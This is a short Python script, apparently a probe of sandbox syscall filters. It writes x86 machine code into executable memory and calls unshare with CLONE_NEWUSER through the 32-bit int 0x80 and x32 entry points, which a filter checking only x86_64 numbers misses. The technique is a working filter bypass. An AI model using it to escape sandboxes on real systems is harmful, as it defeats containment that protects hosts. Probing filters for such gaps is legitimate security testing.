"""Calls the kernel through the 32-bit (int 0x80) and x32 entry points, where a filter that checks only
x86_64 numbers would let unshare(CLONE_NEWUSER) through. Prints each call's raw result (-38 is ENOSYS)."""
import ctypes
import mmap

FLAGS = (0x10000000 | 0x00020000).to_bytes(4, "little")  # CLONE_NEWUSER | CLONE_NEWNS


def call(code: bytes) -> int:
    memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()


def i386(number: int, ebx: bytes = b"\0\0\0\0") -> bytes:  # push rbx; eax=number; ebx=arg; int 0x80; pop rbx; movsxd rax, eax; ret
    return b"\x53\xb8" + number.to_bytes(4, "little") + b"\xbb" + ebx + b"\xcd\x80\x5b\x48\x63\xc0\xc3"


X32_UNSHARE = b"\xb8" + (272 | 0x40000000).to_bytes(4, "little") + b"\xbf" + FLAGS + b"\x0f\x05\xc3"  # syscall; ret
print("i386 unshare:", call(i386(310, FLAGS)))
print("i386 getuid32:", call(i386(199)))
print("x32 unshare:", call(X32_UNSHARE))
